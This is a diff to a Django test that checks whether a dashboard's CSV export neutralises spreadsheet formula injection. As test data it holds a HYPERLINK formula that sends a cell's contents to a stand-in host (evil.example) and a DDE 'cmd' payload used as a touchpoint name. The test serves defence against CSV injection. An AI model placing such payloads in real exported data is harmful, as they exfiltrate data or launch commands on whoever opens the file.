@@ -11,14 +11,12 @@ from django.urls import reverse
 from govcx.analytics.rollups import rollup_catch_up
 from govcx.analytics.tests.helpers import fill_segment
 from govcx.catalog.models import Touchpoint
-from govcx.collection.models import Source
-from govcx.collection.services import submission_accept
 from govcx.collection.tests.helpers import published_survey
-from govcx.conftest import World, signed_in
 from govcx.surveys.lifecycle import survey_transition
 from govcx.surveys.segment_questions import AGE_GROUP, with_segment_questions
 from govcx.surveys.services import draft_save
 from govcx.surveys.tests.helpers import make_survey
+from govcx.testing.factories import World, respond, signed_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 
@@ -36,17 +34,9 @@ def test_dashboard_csv_neutralizes_touchpoint_names_and_keeps_negative_gaps(worl
         service=world.service, name="-2+3+cmd|' /C calc'!A0", channel="phone", stage="middle"
     )
     survey.touchpoints.add(phone)
-    version = survey.published_version()
     for touchpoint, ups, downs in ((world.touchpoint, 90, 10), (phone, 20, 30)):
         for trust in ["1"] * ups + ["0"] * downs:
-            submission_accept(
-                survey=survey,
-                version=version,
-                touchpoint=touchpoint,
-                raw_answers={"trust": trust},
-                language="en",
-                source=Source.API,
-            )
+            respond(survey, {"trust": trust}, touchpoint=touchpoint)
     rollup_catch_up()
     url = reverse("analytics:service", args=[world.service.pk]) + "?csv=touchpoints"
     rows = table(signed_in(world.member).get(url))
